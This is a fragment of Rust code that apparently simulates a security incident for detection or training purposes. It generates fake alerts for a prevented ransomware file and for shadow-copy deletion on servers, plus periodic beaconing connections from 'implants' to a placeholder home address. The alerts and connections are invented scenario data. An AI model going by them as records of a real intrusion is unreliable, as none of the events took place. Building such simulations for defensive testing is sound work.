                Severity::High,
                "Ransomware",
                "'Brinelock' ransomware was prevented",
                "Microsoft Defender Antivirus removed a file before it ran.",
            )
        });
        let mut draft = Draft::new(
            at + 4 * MINUTE,
            (ServiceSource::Xdr, DetectionSource::Custom),
            Severity::High,
            "Impact",
            "Shadow copies deleted on several servers (custom rule)",
        );
        draft.techniques = &["T1490"];
        draft.user = Some(self.admin.clone());
        draft.evidence = shells.iter().map(|s| Entity::Process(s.facts())).collect();
        draft.machine = Some(on_backup.machine.clone());
        script.alert(draft);
        if let Some(alert) = script.alerts.last_mut() {
            alert.machines.push(on_files.machine.id.clone());
        }
    }

    /// The implants call home, about every quarter of an hour, to this minute.
    fn beaconing(&mut self, desk: &Arc<Process>, files: &Arc<Process>) {
        for process in [desk, files] {
            let mut at = process.created + 30 * SECOND;
            while at < self.script.world.now {
                self.script.connect(process, at, HOME_IP, 443, HOME);
                at += self.script.random.range(12 * MINUTE, 18 * MINUTE);
            }
        }
    }
}
